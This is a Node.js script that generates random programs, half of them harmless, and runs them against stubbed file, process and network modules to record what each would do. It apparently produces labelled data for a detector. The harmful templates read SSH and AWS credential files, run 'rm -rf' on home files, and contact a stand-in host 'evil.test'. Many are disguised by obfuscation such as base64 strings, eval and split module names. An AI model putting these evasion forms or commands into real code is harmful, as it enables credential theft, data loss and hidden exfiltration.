// Writes programs and runs them with watched built-in modules; prints of each, as a line of JSON, its text and what it did.
//
// Called with a seed, a number and a scratch folder, in which `app` is the project and `home` the home.
// Programs of an even number are harmless. Nothing is written, run or sent: it is only recorded.
'use strict';
const fs = require('fs');
const path = require('path');
const childProcess = require('child_process');
const { EventEmitter } = require('events');
const { PassThrough } = require('stream');
for (const name of ['http', 'https', 'net', 'dns', 'os', 'util', 'zlib', 'crypto', 'url', 'readline', 'assert', 'module', 'vm', 'worker_threads']) require(name);

const [, , seed, count, folder] = process.argv;
const SCRATCH = fs.realpathSync(folder);
const APP = SCRATCH + '/app';
const HOME = SCRATCH + '/home';
const OUTSIDE = ['notes.txt', '.bashrc', 'other/x.txt', 'Documents/a.md'];
const SECRETS = ['.ssh/id_rsa', '.aws/credentials'];
const INSIDE = ['a.txt', 'data.json', 'src/app.js', 'data.csv'];
const NEW = ['out.txt', 'build/new.json', 'report.md'];
const EVIL = 'http://evil.test/x';
const real = { ...fs };
const print = real.writeSync.bind(null, 1);

// ---- dice

let state = BigInt(seed) * 2n + 1n;
function roll(sides) {
  state = (state * 6364136223846793005n + 1442695040888963407n) & 0xffffffffffffffffn;
  return Number(state >> 33n) % sides;
}
const one = (of) => of[roll(of.length)];
const quoted = (text) => (roll(3) ? "'" + text + "'" : '"' + text + '"');

// ---- programs

class Writer {
  constructor(plain) {
    this.plain = plain;
    this.heads = [];
    this.lines = [];
    this.names = 0;
  }
  use(head) {
    if (!this.heads.includes(head)) this.heads.push(head);
  }
  name() {
    this.names += 1;
    return 'v' + this.names;
  }
  module(name) {
    const v = name.replace('/', '_');
    const forms = [
      () => (this.use(`const ${v}_ = require('${name}');`), `${v}_`),
      () => `require('${name}')`,
      () => `require('node:${name}')`,
    ];
    if (!this.plain) {
      const cut = 1 + roll(name.length - 1);
      forms.push(
        () => `require('${name.slice(0, cut)}' + '${name.slice(cut)}')`,
        () => `module.require('${name}')`,
        () => `process.mainModule.require('${name}')`,
        () => `(0, require)('${name}')`,
        () => `[require][0]('${name}')`,
        () => `Object.assign({}, require('${name}'))`,
        () => `globalThis.process.mainModule.require('${name}')`,
        () => `(function () { return this })().process.mainModule.require('${name}')`,
        () => `[].constructor.constructor('return process')().mainModule.require('${name}')`,
        () => `require.call(null, '${name}')`,
        () => (this.use(`const { ...${v}__ } = require('${name}');`), `${v}__`),
      );
    }
    return one(forms)();
  }
  member(name, member) {
    const object = this.module(name);
    const forms = [() => `${object}.${member}`, () => `${object}.${member}`];
    if (!this.plain) {
      const cut = 1 + roll(member.length - 1);
      forms.push(
        () => `${object}['${member}']`,
        () => `${object}['${member.slice(0, cut)}' + '${member.slice(cut)}']`,
        () => `Reflect.get(${object}, '${member}')`,
        () => `(({ ${member}: it }) => it)(${object})`,
        () => `${object}?.${member}`,
        () => `Object.entries(${object}).find(([k]) => k === '${member}')[1]`,
        () => `new Proxy(${object}, {}).${member}`,
        () => { const v = this.name(); this.lines.push(`const { ${member}: ${v} } = ${object};`); return v; },
        () => { const v = this.name(); this.lines.push(`let ${v}; ${v} = ${object};`); return `${v}.${member}`; },
      );
    } else if (roll(4) === 0) {
      this.use(`const { ${member} } = require('${name}');`);
      return member;
    }
    return one(forms)();
  }
  called(name, member, ...given) {
    const it = this.member(name, member);
    const all = given.join(', ');
    if (this.plain) return `${it}(${all})`;
    const forms = [
      `${it}(${all})`, `${it}(${all})`, `${it}(${all})`, `${it}.call(null, ${all})`, `${it}.apply(null, [${all}])`, `${it}.bind(null, ${all})()`,
      `Reflect.apply(${it}, null, [${all}])`, `${it}(...[${all}])`, `(x => x)(${it})(${all})`, `(${it})(${all})`,
    ];
    if (given.length === 1) forms.push(`[${all}].forEach(it => ${it}(it))`, `[${all}].map(${it})`, `Promise.resolve(${all}).then(${it})`);
    return one(forms);
  }
  text(value) {
    const cut = 1 + roll(Math.max(1, value.length - 1));
    const [left, right] = [value.slice(0, cut), value.slice(cut)];
    const v = this.name();
    const plain = [
      () => quoted(value), () => quoted(value), () => quoted(value), () => quoted(value), () => quoted(value),
      () => `'${left}' + '${right}'`,
      () => { this.lines.push(`const ${v} = '${left}';`); return '`${' + v + '}' + right + '`'; },
      () => { this.lines.push(`const ${v} = { k: ['${value}'] };`); return `${v}.k[0]`; },
      () => `['${left}', '${right}'].join('')`,
      () => { this.lines.push(`function ${v}(x = '${left}') { return x + '${right}'; }`); return `${v}()`; },
      () => { this.lines.push(`const ${v} = (x) => x + '${right}';`); return `${v}('${left}')`; },
      () => { this.lines.push(`let ${v} = 'a.txt';`, `if (process.argv.length) { ${v} = '${value}'; }`); return v; },
      () => { this.lines.push(`const [${v}, ${v}b] = ['${value}', 1];`); return v; },
    ];
    const sly = [
      () => `'${[...value].reverse().join('')}'.split('').reverse().join('')`,
      () => `Buffer.from('${Buffer.from(value).toString('base64')}', 'base64').toString()`,
      () => `String.fromCharCode(${[...value].map((it) => it.charCodeAt(0)).join(', ')})`,
      () => { this.lines.push(`class ${v} { static at = '${value}'; get it() { return '${value}'; } }`); return `new ${v}().it`; },
      () => { this.lines.push(`let ${v} = 'a.txt';`, `try { nothing(); } catch { ${v} = '${value}'; }`); return v; },
      () => { this.lines.push(`let ${v} = 'a.txt';`, `(() => { ${v} = '${value}'; })();`); return v; },
      () => { this.lines.push(`let ${v};`, `for (${v} of ['${value}']) {}`); return v; },
      () => `JSON.parse('{"a":"${value}"}').a`,
      () => `'@'.replace('@', '${value}')`,
      () => `[...'${value}'].reduce((a, b) => a + b)`,
      () => { this.lines.push(`function* ${v}() { yield '${value}'; }`); return `${v}().next().value`; },
      () => { this.lines.push(`const ${v} = {};`, `${v}['k'] = '${value}';`); return `${v}['k']`; },
      () => { this.lines.push(`var ${v} = 'a.txt';`, `{ var ${v} = '${value}'; }`); return v; },
      () => { this.lines.push(`const ${v} = ['a.txt'];`, one([`${v}.push('${value}'); ${v}.reverse();`, `${v}[0] = '${value}';`, `const ${v}b = ${v}; ${v}b.unshift('${value}');`, `${v}.fill('${value}');`, `[${v}[0]] = ['${value}'];`])); return `${v}[0]`; },
      () => { this.lines.push(`const ${v} = { k: 'a.txt' };`, one([`${v}.k = '${value}';`, `Object.assign(${v}, { k: '${value}' });`, `(o => { o.k = '${value}'; })(${v});`, `Reflect.set(${v}, 'k', '${value}');`])); return `${v}.k`; },
      () => { this.lines.push(`const ${v} = new Map([['k', '${value}']]);`); return `${v}.get('k')`; },
    ];
    return '(' + one(this.plain ? plain : [...plain, ...sly])() + ')';
  }
  path(value) {
    const kind = roll(8);
    if (value.startsWith(HOME + '/')) {
      const rest = value.slice(HOME.length + 1);
      if (kind === 0) return `${this.member('path', 'join')}(${this.module('os')}.homedir(), ${this.text(rest)})`;
      if (kind === 1) return `process.env.HOME + '/' + ${this.text(rest)}`;
      if (kind === 2) return '`${process.env.HOME}/' + rest + '`';
      if (kind === 3) return `${this.member('path', 'resolve')}('..', 'home', ${this.text(rest)})`;
      if (kind === 4) return this.text(path.relative(APP, value));
    } else if (kind === 0) return `${this.member('path', 'join')}(process.cwd(), ${this.text(value)})`;
    else if (kind === 1) return `${this.member('path', 'resolve')}(${this.text(value)})`;
    return this.text(value);
  }
  wrap(statement) {
    const frames = [
      (it) => it, (it) => it, (it) => it, (it) => it,
      (it) => `function run() { ${it}; }\nrun();`,
      (it) => `if (true) { ${it}; }`,
      (it) => `for (const i of [1]) { ${it}; }`,
      (it) => `try { ${it}; } catch (e) { console.error(e); }`,
      (it) => `(async () => { ${it}; })();`,
      (it) => `setImmediate(() => { ${it}; });`,
      (it) => `Promise.resolve().then(() => { ${it}; });`,
      (it) => `class A { constructor() { ${it}; } }\nnew A();`,
      (it) => `switch (1) { case 1: ${it}; }`,
      (it) => `do { ${it}; } while (false);`,
      (it) => `process.nextTick(() => { ${it}; });`,
      (it) => (this.plain ? it : `const o${this.name()} = { get x() { ${it}; return 1; } };\nconsole.log(o${'v' + this.names}.x);`),
      (it) => `[1].forEach(() => { ${it}; });`,
      (it) => `label: { ${it}; }`,
    ];
    // Names of functions and classes are taken once.
    const frame = one(frames)(statement).replace(/\brun\b/g, 'run' + this.names).replace(/\bclass A\b|\bnew A\b/g, (it) => it + this.names);
    this.lines.push(frame + ';');
  }
  program() {
    return [...this.heads, ...this.lines].join('\n') + '\n';
  }
  written(value) {
    const p = () => this.path(value);
    this.wrap(one([
      () => this.called('fs', 'writeFileSync', p(), "'x'"),
      () => this.called('fs', 'appendFileSync', p(), "'x'"),
      () => this.called('fs', 'writeFile', p(), "'x'", '() => {}'),
      () => `${this.module('fs')}.promises.writeFile(${p()}, 'x')`,
      () => this.called('fs/promises', 'writeFile', p(), "'x'"),
      () => `${this.called('fs', 'createWriteStream', p())}.end('x')`,
      () => this.called('fs', 'copyFileSync', "'a.txt'", p()),
      () => this.called('fs', 'mkdirSync', p(), '{ recursive: true }'),
      () => this.called('fs', 'closeSync', this.called('fs', 'openSync', p(), "'w'")),
      () => this.called('fs', 'symlinkSync', "'a.txt'", p()),
    ])());
  }
  changed(value) {
    const p = () => this.path(value);
    this.wrap(one([
      () => this.called('fs', 'unlinkSync', p()),
      () => this.called('fs', 'rmSync', p(), '{ recursive: true, force: true }'),
      () => this.called('fs', 'rmdirSync', p()),
      () => this.called('fs', 'unlink', p(), '() => {}'),
      () => this.called('fs/promises', 'rm', p(), '{ recursive: true }'),
      () => `${this.module('fs')}.promises.unlink(${p()})`,
      () => this.called('fs', 'renameSync', p(), "'moved.txt'"),
      () => this.called('fs', 'truncateSync', p()),
      () => this.called('fs', 'chmodSync', p(), '0o777'),
      () => `for (const f of [${p()}]) ${this.called('fs', 'unlinkSync', 'f')}`,
    ])());
  }
  read(value) {
    const p = () => this.path(value);
    this.wrap(one([
      () => `console.log(${this.called('fs', 'readFileSync', p(), "'utf8'")})`,
      () => `console.log(${this.called('fs', 'readFileSync', p())}.toString().split('\\n').length)`,
      () => this.called('fs', 'readFile', p(), "'utf8'", '(e, text) => console.log(text)'),
      () => `${this.called('fs/promises', 'readFile', p(), "'utf8'")}.then(it => console.log(it))`,
      () => `${this.module('fs')}.promises.readFile(${p()}).then(console.log)`,
      () => `${this.called('fs', 'createReadStream', p())}.on('data', d => console.log(d))`,
      () => `try { console.log(JSON.parse(${this.called('fs', 'readFileSync', p(), "'utf8'")})) } catch {}`,
      () => this.called('fs', 'copyFileSync', p(), "'copy.txt'"),
    ])());
  }
  ran(value) {
    const command = one([`rm -rf ${value}`, `touch ${value}`, `cat ${value}`, `rm ${value}`]);
    const words = command.split(' ');
    const rest = words.slice(1).map((it) => quoted(it)).join(', ');
    const near = [...words.slice(0, -1), path.basename(value)];
    const text = () => this.text(command);
    this.wrap(one([
      () => this.called('child_process', 'execSync', text()),
      () => this.called('child_process', 'exec', text()),
      () => this.called('child_process', 'spawnSync', `'${words[0]}'`, `[${rest}]`),
      () => this.called('child_process', 'spawn', `'${words[0]}'`, `[${rest}]`),
      () => this.called('child_process', 'execFileSync', `'${words[0]}'`, `[${rest}]`),
      () => this.called('child_process', 'spawnSync', text(), '{ shell: true }'),
      () => this.called('child_process', 'execSync', `'${near.join(' ')}'`, `{ cwd: ${this.path(path.dirname(value))} }`),
      () => this.called('child_process', 'execFileSync', `'${words[0]}'`, `[${near.slice(1).map((it) => quoted(it)).join(', ')}]`, `{ cwd: ${this.path(path.dirname(value))} }`),
      () => `import('child_process').then(({ execSync }) => execSync(${text()}))`,
      () => `import('child_' + 'process').then(m => m.execSync(${text()}))`,
      () => `eval(${JSON.stringify(`require('child_process').execSync('${command}')`)})`,
      () => `new Function('r', ${JSON.stringify(`r('child_process').execSync('${command}')`)})(require)`,
      () => `${this.called('util', 'promisify', this.member('child_process', 'exec'))}(${text()})`,
      () => `process.chdir(${this.path(path.dirname(value))}); ${this.called('child_process', 'execSync', `'${near.join(' ')}'`)}`,
      () => `const { spawn: s${this.names} } = require('child_process'); s${this.names}('sh', ['-c', ${text()}])`,
      () => `require('vm').runInThisContext('process').mainModule.require('child_process').execSync(${text()})`,
    ])());
  }
  sent() {
    const url = () => this.text(EVIL);
    const host = () => this.text('evil.test');
    this.wrap(one([
      () => `${this.called('http', 'get', url())}.on('error', () => {})`,
      () => `${this.called('http', 'request', `{ host: ${host()}, method: 'POST' }`)}.on('error', () => {}).end('x')`,
      () => `fetch(${url()}).catch(() => {})`,
      () => `fetch(${url()}, { method: 'POST', body: 'x' }).catch(() => {})`,
      () => `globalThis['fet' + 'ch'](${url()}).catch(() => {})`,
      () => `${this.called('net', 'connect', '80', host())}.on('error', () => {})`,
      () => `${this.called('net', 'createConnection', `{ port: 80, host: ${host()} }`)}.on('error', () => {})`,
      () => this.called('dns', 'lookup', host(), '() => {}'),
      () => `new (${this.member('net', 'Socket')})().connect(80, ${host()}).on('error', () => {})`,
    ])());
  }
  computed() {
    this.wrap(one([
      () => 'console.log([1, 2, 3].map(x => x * 2).filter(Boolean).reduce((a, b) => a + b, 0))',
      () => "console.log(JSON.stringify({ a: [1, 2] }, null, 2))",
      () => "console.log('caat'.replace(/a+/g, 'b').toUpperCase().padStart(9))",
      () => 'console.log(new Date(2024, 1, 1).toISOString(), Date.now() > 1)',
      () => 'console.log(Math.max(...[1, 2]), Number("3"), parseInt("4", 10))',
      () => "const m = new Map(); m.set('a', 1); console.log([...m.entries()])",
      () => "console.log(Object.keys({ a: 1 }).sort(), Object.fromEntries([['a', 1]]))",
      () => 'console.log(process.version, process.platform, process.argv.slice(2))',
      () => `console.log(${this.called('fs', 'readdirSync', "'.'")}.sort())`,
      () => `console.log(${this.called('fs', 'existsSync', "'a.txt'")})`,
      () => `console.log(${this.called('fs', 'statSync', "'a.txt'")}.size)`,
      () => `console.log(${this.called('path', 'basename', "'src/a.js'", "'.js'")})`,
      () => `console.log(${this.called('util', 'inspect', '{ a: 1 }')})`,
      () => `console.log(${this.called('os', 'cpus')}.length)`,
      () => `console.log(new (${this.member('url', 'URL')})('http://a/b?c=1').searchParams.get('c'))`,
      () => `console.log(${this.called('crypto', 'createHash', "'sha256'")}.update('x').digest('hex'))`,
      () => `console.log(${this.called('child_process', 'execSync', "'git status --short'")}.toString())`,
      () => 'async function go() { await null; return 1; }\ngo().then(console.log)',
      () => 'const { a, ...rest } = { a: 1, b: 2 }; console.log(a, rest)',
      () => 'class P { #x = 1; get x() { return this.#x; } static of() { return new P(); } }\nconsole.log(P.of().x)',
      () => "const re = /(?<y>\\d+)-(\\d+)/u; console.log('2024-01'.match(re)?.groups?.y ?? 'none')",
      () => 'function* g() { yield* [1, 2]; }\nconsole.log([...g()])',
      () => "console.log(`a${[1].length}b`.split('').reverse().join(''))",
      () => "let n = 0; while (n < 3) { n++; if (n === 2) continue; }\nconsole.log(n)",
      () => "console.table([{ a: 1 }]); console.error('x')",
      () => 'console.log(typeof BigInt(1), 2 ** 8, 7 >>> 1, !!null)',
    ])());
  }
}

function harmless(it) {
  for (let n = roll(2) + 1; n > 0; n--) {
    const kind = roll(4);
    if (kind < 2) it.computed();
    else if (kind === 2) it.read(one(INSIDE));
    else it.written(one(NEW));
  }
}

function harmful(it) {
  if (roll(3) === 0) it.computed();
  const outside = HOME + '/' + one(OUTSIDE);
  switch (roll(6)) {
    case 0: it.written(outside); break;
    case 1: it.changed(outside); break;
    case 2: it.read(HOME + '/' + one(SECRETS)); break;
    case 3: case 4: it.ran(outside); break;
    default: it.sent();
  }
}

// ---- watching

let acts = [];
const place = (it, cwd) => path.resolve(cwd ? path.resolve(String(cwd)) : process.cwd(), it instanceof URL ? it.pathname : String(it));
const ours = (it) => it.startsWith(SCRATCH + '/');
function act(verb, target, cwd) {
  const where = place(target, cwd);
  if (verb !== 'read' || ours(where)) acts.push([verb, where]);
}
function command(words, options) {
  if (words.length > 2 && /sh$/.test(words[0]) && words[1] === '-c') words = words[2].split(/\s+/);
  const verb = { rm: 'delete', touch: 'write', cat: 'read' }[path.basename(words[0])];
  if (verb) act(verb, words[words.length - 1], options && options.cwd);
  else if (!['git', 'ls'].includes(words[0])) acts.push(['run', words.join(' ')]);
}

const CHANGES = {
  appendFile: ['write', 0], chmod: ['write', 0], chown: ['write', 0], copyFile: ['copy', 0], cp: ['copy', 0], lchown: ['write', 0], link: ['write', 1], mkdir: ['write', 0],
  mkdtemp: ['write', 0], rename: ['move', 0], rm: ['delete', 0], rmdir: ['delete', 0], symlink: ['write', 1], truncate: ['write', 0], unlink: ['delete', 0],
  utimes: ['write', 0], writeFile: ['write', 0], readFile: ['read', 0],
};
function note([verb, at], given) {
  if (verb === 'copy') { act('read', given[0]); act('write', given[1]); }
  else if (verb === 'move') { act('delete', given[0]); act('write', given[1]); }
  else if (typeof given[at] !== 'number') act(verb, given[at]);
}
const text = (given) => {
  try { return real.readFileSync(given[0], given[1]); } catch { return given[1] ? '' : Buffer.alloc(0); }
};
const promises = fs.promises;
for (const [name, how] of Object.entries(CHANGES)) {
  const result = (given) => (name === 'readFile' ? text(given) : undefined);
  fs[name + 'Sync'] = (...given) => { note(how, given); return result(given); };
  fs[name] = (...given) => {
    note(how, given);
    const back = given[given.length - 1];
    if (typeof back === 'function') setImmediate(() => back(null, result(given.slice(0, -1))));
  };
  promises[name] = async (...given) => { note(how, given); return result(given); };
}
const opened = (given) => act(/[wa+x]/.test(String(given[1] ?? 'r')) ? 'write' : 'read', given[0]);
fs.openSync = (...given) => { opened(given); return 0; };
fs.closeSync = () => {};
fs.open = (...given) => opened(given);
promises.open = async (...given) => { opened(given); return { close() {} }; };
fs.createWriteStream = (it) => { act('write', it); return new PassThrough().resume(); };
fs.createReadStream = (it) => { act('read', it); const s = new PassThrough(); s.end('x'); return s; };
function child() {
  const it = new EventEmitter();
  it.stdout = new PassThrough(); it.stderr = new PassThrough(); it.stdin = new PassThrough();
  return it;
}
const shelled = (given) => {
  const list = Array.isArray(given[1]) ? given[1] : [];
  const options = given.find((it) => it && typeof it === 'object' && !Array.isArray(it));
  if (options && options.shell) command([given[0], ...list].join(' ').split(/\s+/), options);
  else command([given[0], ...list], options);
};
const texted = (given) => command(String(given[0]).split(/\s+/), given.find((it) => it && typeof it === 'object'));
childProcess.execSync = (...given) => { texted(given); return Buffer.alloc(0); };
childProcess.exec = (...given) => { texted(given); return child(); };
childProcess.spawnSync = (...given) => { shelled(given); return { status: 0, stdout: '', stderr: '' }; };
childProcess.execFileSync = (...given) => { shelled(given); return Buffer.alloc(0); };
childProcess.spawn = (...given) => { shelled(given); return child(); };
childProcess.execFile = (...given) => { shelled(given); return child(); };
childProcess.fork = (...given) => { acts.push(['run', String(given[0])]); return child(); };
const net = require('net');
const http = require('http');
const sending = (host) => { acts.push(['send', String(host)]); const s = child(); s.end = s.write = s.destroy = () => s; s.connect = () => s; return s; };
net.connect = net.createConnection = (...given) => sending(given[0]?.host ?? given[1]);
net.Socket.prototype.connect = function (...given) { sending(given[0]?.host ?? given[1]); return this; };
http.get = http.request = (given) => sending(given?.host ?? given);
require('https').get = require('https').request = http.get;
require('dns').lookup = (host) => { sending(host); };
globalThis.fetch = async (it) => { acts.push(['send', String(it)]); return { json: async () => ({}), text: async () => '', ok: true }; };
require('module').syncBuiltinESMExports();

// ---- running

function fill() {
  for (const name of [...OUTSIDE, ...SECRETS].map((it) => `${HOME}/${it}`).concat(INSIDE.map((it) => `${APP}/${it}`))) {
    real.mkdirSync(path.dirname(name), { recursive: true });
    real.writeFileSync(name, name.endsWith('.json') ? '{"a":[1]}' : 'x');
  }
}
const rest = () => new Promise((done) => setImmediate(() => setImmediate(() => setTimeout(done, 0))));
const quiet = () => {};
for (const name of ['log', 'error', 'table', 'warn', 'info', 'dir']) console[name] = quiet;
process.on('uncaughtException', quiet);
process.on('unhandledRejection', quiet);

async function main() {
  fill();
  for (let n = 0; n < Number(count); n++) {
    const it = new Writer(n % 2 === 0);
    (it.plain ? harmless : harmful)(it);
    const program = it.program();
    acts = [];
    process.chdir(APP);
    process.env.HOME = HOME;
    try {
      new Function('require', 'module', program)(require, module);
    } catch (error) {
      if (process.env.BELAY_FAULTS) process.stderr.write(program + error.stack.split('\n')[0] + '\n----\n');
    }
    await rest();
    const seen = [...new Set(acts.map((act) => JSON.stringify(act)))].map((act) => JSON.parse(act));
    print(JSON.stringify({ program, harmless: it.plain, acts: seen }) + '\n');
  }
  process.exit(0);
}
main();
